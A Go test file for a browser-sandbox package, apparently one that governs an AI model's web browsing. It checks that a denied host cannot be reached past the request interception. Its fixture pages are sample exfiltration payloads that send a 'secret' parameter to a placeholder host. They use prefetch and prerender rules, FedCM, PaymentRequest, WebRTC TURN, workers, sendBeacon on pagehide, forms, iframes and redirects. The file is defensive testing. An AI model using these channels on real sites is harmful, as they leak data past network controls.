package browser

import (
	"context"
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"
)

// The hostile channels: each page tries one way to reach the denied host
// that the Fetch interception never sees. Pages set their title to "done"
// once the channel's own promise settled, where the channel has one.
var wallPages = map[string]string{
	"/prefetch": `<title>ready</title><script type="speculationrules">{"prefetch":[{"source":"list","urls":["http://{B}/prefetch?d=secret"]}]}</script>`,
	"/prerender": `<title>ready</title><script type="speculationrules">{"prerender":[{"source":"list","urls":["http://{B}/prerender?d=secret"]}]}</script>
<a id="go" href="http://{B}/prerender?d=secret" style="position:fixed;left:0;top:0;width:200px;height:100px;display:block">go</a>`,
	"/fedcm": `<title>ready</title><script>
navigator.credentials.get({identity:{providers:[{configURL:"http://{B}/fedcm.json",clientId:"c",nonce:"n"}]}})
  .then(() => document.title = "done", () => document.title = "done");
</script>`,
	"/payment": `<title>ready</title><script>
try {
  new PaymentRequest([{supportedMethods:"http://{B}/pay"}], {total:{label:"t",amount:{currency:"USD",value:"1"}}})
    .canMakePayment().then(() => document.title = "done", () => document.title = "done");
} catch (e) { document.title = "done"; }
</script>`,
	"/webrtc": `<title>ready</title><script>
const pc = new RTCPeerConnection({iceServers:[{urls:"stun:{U}"},{urls:"turn:{B}?transport=tcp",username:"u",credential:"c"},{urls:"turn:{U}?transport=udp",username:"u",credential:"c"}]});
pc.createDataChannel("d");
pc.onicegatheringstatechange = () => { if (pc.iceGatheringState === "complete") document.title = "done"; };
pc.createOffer().then(o => pc.setLocalDescription(o));
</script>`,
	"/sharedworker": `<title>ready</title><script>
const w = new SharedWorker(URL.createObjectURL(new Blob(["onconnect = e => { const p = e.ports[0]; fetch('http://{B}/shared?d=secret', {mode:'no-cors'}).then(() => p.postMessage(1), () => p.postMessage(1)); }"])));
w.port.onmessage = () => document.title = "done";
</script>`,
	"/serviceworker": `<title>ready</title><script>
navigator.serviceWorker.register("/sw.js?b={B}").then(r => {
  const w = r.installing || r.waiting || r.active;
  const end = () => { if (w.state === "installed" || w.state === "activated" || w.state === "redundant") document.title = "done"; };
  w.onstatechange = end; end();
}, () => document.title = "done");
</script>`,
	"/sw.js": `self.addEventListener("install", e => e.waitUntil(fetch("http://{B}/sw?d=secret", {mode:"no-cors"}).catch(() => {})));`,
	"/pagehide": `<title>ready</title><script>
addEventListener("pagehide", () => {
  navigator.sendBeacon("http://{B}/beacon?d=secret", "x");
  fetch("http://{B}/keepalive?d=secret", {method:"POST", body:"x", keepalive:true, mode:"no-cors"});
});
</script>`,
}

// channel is one hostile page; the attempt is over when the proxy reported
// a refusal for the channel's listener, or when the page says so (done).
type channel struct {
	path     string
	pageDone bool
	// end, when set, ends the page the way the channel needs (the model
	// closing the tab, the session ending).
	end func(t *testing.T, ws *Workspace, tab *Tab)
}

func closeTab(t *testing.T, ws *Workspace, tab *Tab) {
	if _, err := ws.Close(ctxT(t, 10*time.Second), tab.Handle()); err != nil {
		t.Fatal(err)
	}
}

func releaseWS(t *testing.T, ws *Workspace, _ *Tab) {
	if err := shared.ReleaseWorkspace(ctxT(t, 10*time.Second), ws.ID()); err != nil {
		t.Fatal(err)
	}
}

// wallChannels reach the denied host past the interception when nothing
// else stops them (TestWallControl shows each one does).
var wallChannels = []channel{
	{path: "/fedcm"},
	{path: "/payment", pageDone: true},
	{path: "/webrtc", pageDone: true},
	{path: "/sharedworker", pageDone: true},
	{path: "/serviceworker", pageDone: true},
	{path: "/pagehide", end: closeTab},
	{path: "/pagehide", end: releaseWS},
}

func (ch channel) name() string {
	n := strings.TrimPrefix(ch.path, "/")
	if ch.end != nil {
		n += map[bool]string{true: "-close", false: "-release"}[fmt.Sprintf("%p", ch.end) == fmt.Sprintf("%p", closeTab)]
	}
	return n
}

// refusedFor reports whether the workspace's blocked log holds a record for
// the denied listener (each has its own port).
func refusedFor(ws *Workspace, d *denied) bool {
	for _, b := range ws.BlockedSince(0, "") {
		if b.Host == d.addr {
			return true
		}
	}
	return false
}

func title(t testing.TB, tab *Tab) string { return eval(t, tab, "document.title") }

// addrDenied is documents-only mode with every host admitted, and an
// address decision refusing 127.0.0.2 (hosts.addresses guards every
// connection in every mode).
func addrDenied() Boundary {
	b := admitAll(false)
	b.AdmitAddr = func(ip netip.Addr) (bool, string) {
		return ip != netip.MustParseAddr("127.0.0.2"), "organization"
	}
	return b
}

// runChannel opens the channel's page under b and waits for the attempt.
func runChannel(t *testing.T, h *pageHost, ch channel, b Boundary, control bool) *denied {
	d := newDenied(t)
	ws := newWS(t)
	ctx := governed(t, b)
	tab := openTab(t, ws, "http://"+h.addr+"/sw.js")
	if _, err := tab.Navigate(ctx, h.url(ch.path, d), NavigateOptions{}); err != nil {
		t.Fatal(err)
	}
	if ch.end != nil {
		if ch.pageDone || control {
			eventually(t, "the page's script", func() bool { return title(t, tab) == "ready" })
		}
		ch.end(t, ws, tab)
	}
	if ch.name() == "pagehide-release" && !control {
		// The same race: the wait gives the beacon its time, and the
		// caller's assertion (nothing at the denied host) holds either way.
		within(10*time.Second, func() bool { return refusedFor(ws, d) })
		return d
	}
	if control && ch.name() == "pagehide-release" {
		// A released session's context admits nothing more: the control
		// shows the beacon reached the proxy, which refused it. The beacon
		// races the context's disposal (under load the renderer can go
		// before pagehide runs), so no attempt here is not a failure of
		// this run: nil, and the caller tries again.
		if !within(10*time.Second, func() bool { return refusedFor(ws, d) }) {
			return nil
		}
		return d
	}
	eventually(t, "the attempt", func() bool {
		if control {
			return !d.nothing()
		}
		return refusedFor(ws, d) || ch.pageDone && ch.end == nil && title(t, tab) == "done"
	})
	return d
}

// TestWallHostileChannels: no channel the interception misses reaches the
// denied host: under "all" by its host, in either mode by its address.
func TestWallHostileChannels(t *testing.T) {
	h := newPageHost(t, wallPages)
	for _, mode := range []struct {
		name string
		b    Boundary
		skip map[string]bool // held paused by the interception under "all": never attempted
	}{
		{"all", onlyA(true), map[string]bool{"/sharedworker": true, "/serviceworker": true}},
		{"addresses", addrDenied(), nil},
	} {
		for _, ch := range wallChannels {
			if mode.skip[ch.path] {
				continue
			}
			t.Run(mode.name+"/"+ch.name(), func(t *testing.T) {
				d := runChannel(t, h, ch, mode.b, false)
				if !d.nothing() {
					t.Fatalf("the denied host saw %s", d.saw())
				}
			})
		}
	}
}

// TestWallControl: the same pages with the host admitted reach it, so the
// hostile test's zeros can fail.
func TestWallControl(t *testing.T) {
	h := newPageHost(t, wallPages)
	for _, ch := range wallChannels {
		t.Run(ch.name(), func(t *testing.T) {
			d := runChannel(t, h, ch, admitAll(false), true)
			for try := 1; d == nil && try < 3; try++ {
				d = runChannel(t, h, ch, admitAll(false), true)
			}
			if d == nil {
				t.Fatalf("%s: no attempt reached the proxy in 3 runs", ch.name())
			}
			t.Logf("%s: the admitted host saw %s", ch.name(), d.saw())
		})
	}
}

// navPaths are pages that navigate to the denied host on their own, each to
// a fresh listener port (Chromium reuses an idle socket to a port it knows).
var navPaths = map[string]string{
	"/nav-link":     `<a id="l" href="http://{B}/link?d=secret">l</a><script>document.getElementById("l").click()</script>`,
	"/nav-click":    `<title>ready</title><a href="http://{B}/click?d=secret" style="position:fixed;left:0;top:0;width:300px;height:200px;display:block">go</a>`,
	"/nav-model":    `<title>ready</title>`,
	"/nav-form":     `<form id="f" action="http://{B}/form" method="post"><input name="d" value="secret"></form><script>document.getElementById("f").submit()</script>`,
	"/nav-location": `<script>location.href = "http://{B}/location?d=secret"</script>`,
	"/nav-iframe":   `<iframe src="http://{B}/frame?d=secret"></iframe>`,
	"/nav-popup":    `<script>window.open("http://{B}/popup?d=secret")</script>`,
	"/nav-refresh":  `<meta http-equiv="refresh" content="0;url=http://{B}/refresh?d=secret">`,
}

// TestWallDeniedNavigationConnectsNowhere: a denied navigation opens no TCP
// connection to the denied host, in either mode (the interception fails it
// before it leaves; no preconnect reaches past the proxy).
func TestWallDeniedNavigationConnectsNowhere(t *testing.T) {
	h := newPageHost(t, navPaths)
	for _, all := range []bool{false, true} {
		for path := range navPaths {
			t.Run(fmt.Sprintf("all=%v%s", all, path), func(t *testing.T) {
				d := newDenied(t)
				ws := newWS(t)
				ctx := governed(t, onlyA(all))
				tab := openTab(t, ws, "http://"+h.addr+"/none")
				nctx, cancel := context.WithTimeout(ctx, 3*time.Second) // the page leaves on its own
				_, _ = tab.Navigate(nctx, h.url(path, d), NavigateOptions{})
				cancel()
				switch path {
				case "/nav-click": // a real pointer: hover and press preconnect in Chromium
					_ = tab.Do(ctx, func(context.Context) error { click(t, tab, 50, 50); return nil })
				case "/nav-model":
					_, _ = tab.Navigate(ctx, "http://"+d.addr+"/model?d=secret", NavigateOptions{})
				}
				eventually(t, "the navigation stopped", func() bool { return refusedFor(ws, d) })
				if !d.nothing() {
					t.Fatalf("the denied host saw %s", d.saw())
				}
			})
		}
	}
}

// TestWallRefusalIsItsSessions: a refusal the proxy of one session's
// context reports is counted in that session's next result, not another's.
func TestWallRefusalIsItsSessions(t *testing.T) {
	h := newPageHost(t, wallPages)
	d := newDenied(t)
	one, other := newWS(t), newWS(t)
	ctx := governed(t, onlyA(true))
	openTab(t, other, "http://"+h.addr+"/sw.js")
	tab := openTab(t, one, "http://"+h.addr+"/sw.js")
	_, _ = other.TakeBlocked()
	if _, err := tab.Navigate(ctx, h.url("/payment", d), NavigateOptions{}); err != nil {
		t.Fatal(err)
	}
	eventually(t, "the refusal", func() bool { return refusedFor(one, d) })
	n, hosts := one.TakeBlocked()
	if n < 1 || !slices.Contains(hosts, d.addr) {
		t.Fatalf("the session's own result counts %d %v", n, hosts)
	}
	if n, hosts := other.TakeBlocked(); n != 0 || refusedFor(other, d) {
		t.Fatalf("the other session's result counts %d %v", n, hosts)
	}
	if !d.nothing() {
		t.Fatalf("the denied host saw %s", d.saw())
	}
}

// TestWallDefaultContext: the launched browser's default context (shared
// isolation) goes through the proxy given at launch.
//
// It runs in a browser of its own: the default context's proxy keeps the last
// shared workspace's configured boundary after that workspace is released
// (so its leftover pages stay bounded), and the package's shared browser
// serves later tests whose person's tabs assume a default context no policy
// ever governed.
func TestWallDefaultContext(t *testing.T) {
	h := newPageHost(t, wallPages)
	b := New(testConfig())
	t.Cleanup(func() { _ = b.Close() })
	for _, ch := range []channel{{path: "/payment", pageDone: true}, {path: "/pagehide", end: closeTab}} {
		t.Run(ch.name(), func(t *testing.T) {
			d := newDenied(t)
			id := t.Name()
			ws := b.Workspace(id)
			ws.isolation = IsolationShared
			t.Cleanup(func() {
				ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
				defer cancel()
				_ = b.ReleaseWorkspace(ctx, id)
			})
			ctx := governed(t, onlyA(true))
			tab := openTab(t, ws, "http://"+h.addr+"/sw.js")
			if _, err := tab.Navigate(ctx, h.url(ch.path, d), NavigateOptions{}); err != nil {
				t.Fatal(err)
			}
			if ch.end != nil {
				ch.end(t, ws, tab)
			}
			eventually(t, "the refusal", func() bool { return refusedFor(ws, d) })
			if !d.nothing() {
				t.Fatalf("the denied host saw %s", d.saw())
			}
		})
	}
}

// within polls cond until it holds (true) or d passed (false).
func within(d time.Duration, cond func() bool) bool {
	deadline := time.Now().Add(d)
	for !cond() {
		if time.Now().After(deadline) {
			return false
		}
		time.Sleep(10 * time.Millisecond)
	}
	return true
}
